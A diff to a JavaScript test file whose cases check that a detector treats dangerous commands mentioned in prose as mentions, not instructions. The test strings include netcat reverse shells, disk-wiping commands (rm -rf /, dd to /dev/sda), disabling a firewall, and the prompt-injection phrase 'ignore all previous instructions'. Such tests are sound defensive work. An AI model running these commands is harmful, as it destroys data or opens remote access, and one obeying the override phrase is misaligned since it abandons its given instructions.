@@ -42,6 +42,8 @@ describe('prose/mentions: instruction or mention', () => {
     ['Many netcat builds drop `-e` because `nc -e /bin/sh host 1` is a ready-made backdoor.', 'nc -e /bin/sh host 1'],
     ['Prompt injections contain phrases like "ignore all previous instructions".', 'ignore all previous instructions'],
     ['Rather than `sudo ufw disable`, allow the port.', 'sudo ufw disable'],
+    ['`sudo rm -rf / --no-preserve-root` is a famous joke among sysadmins.', 'sudo rm -rf / --no-preserve-root'],
+    ["I can't help you set up `nc -e /bin/sh 10.0.0.1 4444` on someone else's machine.", 'nc -e /bin/sh 10.0.0.1 4444'],
     ['`dd if=/dev/zero of=/dev/sda` (do not run this) wipes the first disk.', 'dd if=/dev/zero of=/dev/sda'],
   ];
   for (const [text, needle] of mentions) it(`mention: ${text}`, () => assert.equal(decide(text, needle), false));
